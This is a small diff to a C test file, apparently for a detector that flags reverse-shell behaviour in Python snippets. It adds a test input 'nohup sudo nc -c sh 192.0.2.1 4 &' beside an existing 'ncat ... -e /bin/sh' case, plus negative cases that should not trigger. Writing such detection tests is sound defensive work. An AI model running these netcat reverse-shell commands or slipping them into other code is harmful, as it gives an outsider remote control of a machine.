@@ -274,6 +274,8 @@ static void as_lists(void)
 		    MPY_BEH_SHELL_REVERSE, 2));
 	CHECK(shows("import os\nos.system('ncat 192.0.2.1 4444 -e /bin/sh')",
 		    MPY_BEH_SHELL_REVERSE, 2));
+	CHECK(shows("import os\nos.system('nohup sudo nc -c sh 192.0.2.1 4 &')",
+		    MPY_BEH_SHELL_REVERSE, 2));
 	CHECK(lacks("import os\nos.system('nc -z 192.0.2.1 22')\n"
 		    "os.system('nc -lp 99 | gzip -d -c > x')\n"
 		    "os.system('nc -c www.example 443')",
